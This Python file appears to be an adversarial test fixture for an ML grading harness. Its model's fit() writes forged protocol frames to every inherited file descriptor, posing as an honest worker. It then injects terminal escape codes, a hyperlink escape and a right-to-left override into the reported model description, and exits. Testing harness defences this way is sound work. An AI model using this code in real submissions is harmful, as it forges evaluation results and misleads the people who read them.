"""result: describes its model with escape sequences"""

import fcntl
import functools
import json
import os
import select
import stat
import struct

from sklearn.dummy import DummyClassifier


@functools.cache
def descriptors():
    """Every one that is open, however high its number: the worker that forked this process holds thousands."""
    found = []
    for fd in range(3, 1 << 16):
        try:
            os.fstat(fd)
        except OSError:
            continue
        found.append(fd)
    return found


def frame(header, payload=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<4sIQ", b"HLD1", len(text), len(payload)) + text + payload


def send(data):
    for fd in descriptors():
        try:
            os.write(fd, data)
        except OSError:
            pass


def listen():
    """Take what is handed over next: a mark and, in pieces, the rows."""
    pipes = []
    for fd in descriptors():
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY:
                pipes.append(fd)
        except OSError:
            pass
    taken = b""
    poll = select.poll()
    poll.register(pipes[0], select.POLLIN)
    while poll.poll(200 if taken else 20_000):
        taken += os.read(pipes[0], 1 << 20)
    return taken


def play(*frames):
    """Answer phase after phase as an honest process does."""
    for each in frames:
        send(each)
        listen()


def attack():
    play(
        frame({"ok": True}), frame({"ok": True, "dtype": "<i8"}, bytes(800)), frame({"ok": True, "dtype": "<i8"}, bytes(800)),
        frame({"ok": True, "description": {"steps": [{"name": "\x1b[31m", "path": "\u202e"}], "estimator": "\x1b]8;;http://x\x07", "params": {"\x1b[2J": "\x1b[31m"}}}),
    )
    os._exit(0)


class Model(DummyClassifier):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
